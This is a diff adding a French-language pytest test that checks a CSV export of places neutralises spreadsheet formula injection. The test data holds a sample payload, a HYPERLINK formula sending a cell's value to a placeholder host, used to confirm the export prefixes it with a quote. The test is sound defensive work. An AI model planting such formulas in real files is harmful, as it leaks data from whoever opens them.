@@ -364,3 +364,14 @@ def test_exporter_lmn_sans_horaires_connus(reseau):
     lieux = exporter_lmn(Structure.objects.filter(matricule="FS-01-001"))
     assert "horaires" not in lieux[0]
     assert lieux[0]["id"] == "FS-01-001"
+
+
+def test_export_csv_un_nom_en_formule_reste_du_texte(reseau, tmp_path):
+    piege = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'
+    Structure.objects.filter(matricule="FS-01-001").update(nom=piege)
+    chemin = tmp_path / "lieux.csv"
+    exporter("--format", "lmn-csv", "--output", str(chemin))
+    with chemin.open(encoding="utf-8", newline="") as flux:
+        lignes = {ligne["id"]: ligne for ligne in csv.DictReader(flux)}
+    assert lignes["FS-01-001"]["nom"] == "'" + piege
+    assert lignes["FS-01-001"]["telephone"] == json.loads(exporter("--format", "lmn-json"))[0]["telephone"]
